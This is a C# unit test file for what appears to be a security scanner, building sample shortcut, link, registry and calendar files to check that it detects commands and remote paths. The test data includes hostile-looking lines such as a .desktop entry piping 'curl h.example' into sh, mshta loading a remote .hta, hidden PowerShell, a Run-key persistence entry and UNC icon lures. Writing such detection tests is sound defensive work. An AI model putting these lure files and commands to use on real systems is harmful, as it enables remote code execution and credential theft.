using System.Buffers.Binary;
using System.Text;

namespace SecuEdge.Content.Tests.Documents;

public sealed class LinkTests
{
    [Theory]
    [InlineData(@"..\..\Windows\System32\cmd.exe", "/c start x", "", ActiveContent.ShortcutCommand)]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-w hidden", "", ActiveContent.ShortcutCommand)]
    [InlineData("mshta", "https://a.example/x.hta", "", ActiveContent.ShortcutCommand)]
    [InlineData(@"C:\Windows\explorer.exe", "https://a.example/", "", ActiveContent.ShortcutCommand)]
    [InlineData(@"C:\Windows\explorer.exe", "", "", ActiveContent.None)]
    [InlineData(@"C:\Program Files\Editor\editor.exe", "report.txt", "", ActiveContent.None)]
    [InlineData(@"C:\Program Files\Editor\editor.exe", @"\\host\share\x.js", "", ActiveContent.ShortcutCommand)]
    [InlineData("notes.txt", "", @"\\host\share\icon.ico", ActiveContent.RemotePath)]
    [InlineData(@"\\host@SSL\DavWWWRoot\x.exe", "", "", ActiveContent.RemotePath)]
    [InlineData("report.docx", "", @"%SystemRoot%\shell32.dll", ActiveContent.None)]
    public void A_shortcut_says_what_it_starts_and_where_it_leads(string path, string arguments, string icon, ActiveContent expected)
    {
        foreach (var isUnicode in (ReadOnlySpan<bool>)[true, false])
        {
            using var anatomy = PartSamples.Examine(Shortcut(path, arguments, icon, isUnicode), "a.lnk");
            Assert.Equal(expected, anatomy.Attachment().Active);
            Assert.True(anatomy.Flags.HasFlag(AnatomyFlags.Executable));
        }
    }

    [Fact]
    public void The_environment_block_names_the_target_too()
    {
        var block = new byte[0x314];
        BinaryPrimitives.WriteUInt32LittleEndian(block, 0x314);
        BinaryPrimitives.WriteUInt32LittleEndian(block.AsSpan(4), 0xa0000001);
        Encoding.Unicode.GetBytes(@"%comspec%\..\cmd.exe").CopyTo(block, 268);
        using var anatomy = PartSamples.Examine([.. Shortcut("readme.txt", "/c x", ""), .. block, 0, 0, 0, 0], "a.lnk");
        Assert.Equal(ActiveContent.ShortcutCommand, anatomy.Attachment().Active);
    }

    [Fact]
    public void What_is_hung_onto_a_shortcut_is_a_part()
    {
        using var anatomy = PartSamples.Examine([.. Shortcut("cmd.exe", "/c x", ""), 0, 0, 0, 0, .. Samples.Eicar], "a.lnk");
        Assert.True(Samples.HasEicarByItself(Assert.Single(anatomy.Attachment().Children)));
    }

    [Theory]
    [InlineData("a.webloc", "<?xml version=\"1.0\"?><plist><dict><key>URL</key><string>file:///Volumes/s/a.app</string></dict></plist>", ActiveContent.RemotePath)]
    [InlineData("a.webloc", "<?xml version=\"1.0\"?><plist><dict><key>URL</key><string>https://a.example/</string></dict></plist>", ActiveContent.None)]
    [InlineData("a.odc", "<html><xml><odc:OfficeDataConnection><odc:ConnectionString>Provider=x;Data Source=\"http://h.example/q\"</odc:ConnectionString></odc:OfficeDataConnection></xml></html>", ActiveContent.ExternalObject)]
    [InlineData("a.odc", "<html><xml><odc:OfficeDataConnection><odc:ConnectionString>Provider=SQLOLEDB;Data Source=sales</odc:ConnectionString></odc:OfficeDataConnection></xml></html>", ActiveContent.None)]
    public void A_file_of_data_or_of_macOS_says_where_it_leads(string name, string content, ActiveContent expected)
    {
        using var anatomy = PartSamples.Examine(content, name);
        Assert.Equal(expected, anatomy.Attachment().Active);
    }

    [Theory]
    [InlineData("a.url", "[InternetShortcut]\r\nURL=https://a.example/", ActiveContent.None, "https://a.example/")]
    [InlineData("a.url", "[InternetShortcut]\r\nURL=file://10.0.0.1/share/x.exe", ActiveContent.RemotePath | ActiveContent.ShortcutCommand, "file://10.0.0.1/share/x.exe")]
    [InlineData("a.url", "[InternetShortcut]\r\nURL=file:///\\\\10.0.0.1\\share\\x.zip", ActiveContent.RemotePath, "file:///\\\\10.0.0.1\\share\\x.zip")]
    [InlineData("a.url", "; comment\r\n[InternetShortcut]\r\nURL=https://a.example/\r\nIconFile=\\\\10.0.0.1\\i\\i.ico", ActiveContent.RemotePath, @"\\10.0.0.1\i\i.ico")]
    [InlineData("a.txt", "[InternetShortcut]\r\nURL=\\\\10.0.0.1\\share", ActiveContent.RemotePath, @"\\10.0.0.1\share")]
    [InlineData("a.library-ms", "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><url>\\\\h.example\\s</url></libraryDescription>", ActiveContent.RemotePath, @"\\h.example\s")]
    [InlineData("a.searchConnector-ms", "<searchConnectorDescription><simpleLocation><url>https://h.example/dav</url></simpleLocation></searchConnectorDescription>", ActiveContent.RemotePath, "https://h.example/dav")]
    [InlineData("a.search-ms", "<persistedQuery><scope><include path=\"\\\\h.example\\s\"/></scope></persistedQuery>", ActiveContent.RemotePath, @"\\h.example\s")]
    [InlineData("a.SettingContent-ms", "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c x</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", ActiveContent.ShortcutCommand, "")]
    [InlineData("a.website", "[InternetShortcut]\r\nURL=search:query=x&crumb=location:\\\\h.example\\s", ActiveContent.RemotePath, "search:query=x&crumb=location:\\\\h.example\\s")]
    [InlineData("a.SettingContent-ms", "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>mshta.exe https://h.example/x</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", ActiveContent.ShortcutCommand | ActiveContent.RemotePath, "https://h.example/x")]
    [InlineData("a.theme", "[Theme]\r\nBrandImage=\\\\h.example\\x.png", ActiveContent.RemotePath, @"\\h.example\x.png")]
    [InlineData("a.rdp", "screen mode id:i:2\r\nfull address:s:h.example:3389\r\ndrivestoredirect:s:*", ActiveContent.RemotePath, "")]
    [InlineData("a.rdp", "remoteapplicationprogram:s:||app\r\nfull address:s:h.example", ActiveContent.RemotePath | ActiveContent.ShortcutCommand, "")]
    [InlineData("a.jnlp", "<jnlp codebase=\"https://h.example/\" href=\"x.jnlp\"/>", ActiveContent.ShortcutCommand, "https://h.example/")]
    [InlineData("a.appref-ms", "https://h.example/x.application#x", ActiveContent.ShortcutCommand, "https://h.example/x.application#x")]
    [InlineData("a.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\h.example\\x.ico", ActiveContent.RemotePath, @"\\h.example\x.ico")]
    [InlineData("desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\h.example\\x.ico,0", ActiveContent.RemotePath, @"\\h.example\x.ico,0")]
    [InlineData("a.desktop", "[Desktop Entry]\nExec=sh -c \"curl h.example|sh\"", ActiveContent.ShortcutCommand, "")]
    [InlineData("a.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"calc.exe\"", ActiveContent.ShortcutCommand, "")]
    [InlineData("a.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Editor]\r\n\"Color\"=\"blue\"", ActiveContent.None, "")]
    [InlineData("a.inf", "[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\nRunPreSetupCommands=x", ActiveContent.ShortcutCommand, "")]
    [InlineData("a.iqy", "WEB\r\n1\r\nhttps://h.example/q", ActiveContent.ExternalObject, "https://h.example/q")]
    [InlineData("a.contact", "<c:contact xmlns:c=\"http://schemas.microsoft.com/Contact\"><c:Url><c:Value>https://h.example/x</c:Value></c:Url></c:contact>", ActiveContent.None, "https://h.example/x")]
    public void A_link_file_says_what_it_starts_and_where_it_leads(string name, string content, ActiveContent expected, string link)
    {
        foreach (var bytes in (ReadOnlySpan<byte[]>)[Encoding.UTF8.GetBytes(content), [0xff, 0xfe, .. Encoding.Unicode.GetBytes(content)]])
        {
            using var anatomy = PartSamples.Examine(bytes, name);
            Assert.Equal(expected, anatomy.Attachment().Active);
            Assert.True(link.Length == 0 || anatomy.Links.Any(found => found.Url == link), string.Join(' ', anatomy.Links));
        }
    }

    [Fact]
    public void A_calendar_gives_text_links_and_files()
    {
        var ics = $"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Meet\\, now\r\nURL:https://a.exam\r\n ple/x\r\nDESCRIPTION:see https://b.example/y\r\nATTACH;FILENAME=\"x.com\";ENCODING=BASE64;VALUE=BINARY:{Samples.EicarBase64}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
        using var anatomy = PartSamples.Examine(ics, "a.ics");
        Assert.Equal(["https://a.example/x", "https://b.example/y"], anatomy.Urls);
        Assert.Contains(anatomy.AllParts(), part => part.FileName == "x.com" && Samples.HasEicarByItself(part));
        Assert.Contains("Meet, now", anatomy.Attachment().Text, StringComparison.Ordinal);
    }

    [Fact]
    public void Damaged_files_never_throw_and_never_hang()
    {
        byte[][] seeds = [Shortcut("cmd.exe", "/c x", @"\\h\i"), Shortcut("cmd.exe", "/c x", "", isUnicode: false)];
        PartSamples.Survive(PartSamples.Mutations(seeds, 800), "a.lnk");
        PartSamples.Survive(PartSamples.Truncations(seeds[0]), "a.lnk");
        PartSamples.Survive(PartSamples.Mutations([Encoding.ASCII.GetBytes("[InternetShortcut]\r\nURL=file://h/x\r\nIconFile=\\\\h\\x"), Encoding.ASCII.GetBytes("<libraryDescription><url>\\\\h</url></libraryDescription>")], 400), "a.url");
        PartSamples.Survive(PartSamples.Mutations([Encoding.ASCII.GetBytes("BEGIN:VCARD\r\nPHOTO;ENCODING=b:AAAA\r\nURL:http://h/\r\nEND:VCARD")], 400), "a.vcf");
    }

    /// <summary>[MS-SHLLINK] §2.1 and §2.4: a header and three strings.</summary>
    internal static byte[] Shortcut(string path, string arguments, string icon, bool isUnicode = true)
    {
        var header = new byte[0x4c];
        byte[] start = [0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
        start.CopyTo(header, 0);
        var flags = 0x8 | (arguments.Length > 0 ? 0x20 : 0) | (icon.Length > 0 ? 0x40 : 0) | (isUnicode ? 0x80 : 0);
        BinaryPrimitives.WriteInt32LittleEndian(header.AsSpan(0x14), flags);
        var bytes = new List<byte>(header);
        foreach (var text in new[] { path, arguments, icon }.Where(text => text.Length > 0))
        {
            bytes.AddRange([(byte)text.Length, (byte)(text.Length >> 8), .. isUnicode ? Encoding.Unicode.GetBytes(text) : Encoding.Latin1.GetBytes(text)]);
        }

        return [.. bytes];
    }
}
